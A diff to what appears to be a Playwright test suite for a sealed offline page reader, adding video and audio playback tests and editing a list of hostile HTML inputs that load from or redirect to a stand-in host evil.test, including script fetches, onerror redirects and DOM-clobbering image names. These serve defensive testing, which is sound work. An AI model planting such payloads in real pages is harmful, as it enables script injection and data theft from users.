@@ -170,6 +170,29 @@ def test_what_is_said_stands_under_the_clip(trial: Reader) -> None:
     assert trial.page.locator("video").evaluate(cues) == ["Tel tot vijf"]
 
 
+@pytest.mark.parametrize(("screen", "number"), [(PHONE, 1), (DESK, 0)])
+def test_of_two_films_the_one_comes_that_fits_the_screen(
+    screen: dict[str, int], number: int, sealer: Sealer, met: Met
+) -> None:
+    reader = met(sealer, viewport=screen)
+    reader.unlock()
+    reader.go("films.html", sealer)
+    reader.page.get_by_role("button", name="Two").click()
+    expect(reader.page.locator("video[controls]")).to_have_js_property("videoWidth", 320)
+    films = [name for name in sealer.plain if name.endswith(".mp4")]
+    assert str(sealer.blobs()[films[number]]["name"]) in reader.asked[-2] + reader.asked[-1]
+
+
+def test_sound_alone_plays(sealer: Sealer, met: Met) -> None:
+    reader = met(sealer)
+    reader.unlock()
+    reader.go("films.html", sealer)
+    reader.page.get_by_role("button", name="Sound").click()
+    sound = reader.page.locator("audio[controls]")
+    expect(sound).to_have_js_property("readyState", 4)
+    expect(sound).to_be_focused()
+
+
 def test_an_anchor_leads_into_a_page(trial: Reader) -> None:
     trial.page.get_by_role("link", name="below").click()
     expect(trial.page.locator("#below")).to_be_focused()
@@ -525,7 +548,8 @@ def test_a_clip_that_is_not_there_yet_says_so_and_can_be_tried_again(
 HOSTILE = (
     '<script src="//evil.test/1.js"></script><script>fetch("//evil.test/2")</script>',
     '<img src="//evil.test/3.png"><img src=x onerror="location=`//evil.test/4`">',
-    '<img srcset="//evil.test/5.png 1x" alt=""><picture><source srcset="//evil.test/6"></picture>',
+    '<img name="body" srcset="//evil.test/5.png 1x"><img name="images">',
+    '<picture><source srcset="//evil.test/6"></picture>',
     '<meta http-equiv="refresh" content="0;url=//evil.test/7"><base href="//evil.test/">',
     '<iframe src="//evil.test/8"></iframe><iframe srcdoc="<img src=//evil.test/9>"></iframe>',
     '<object data="//evil.test/10"></object><embed src="//evil.test/11">',
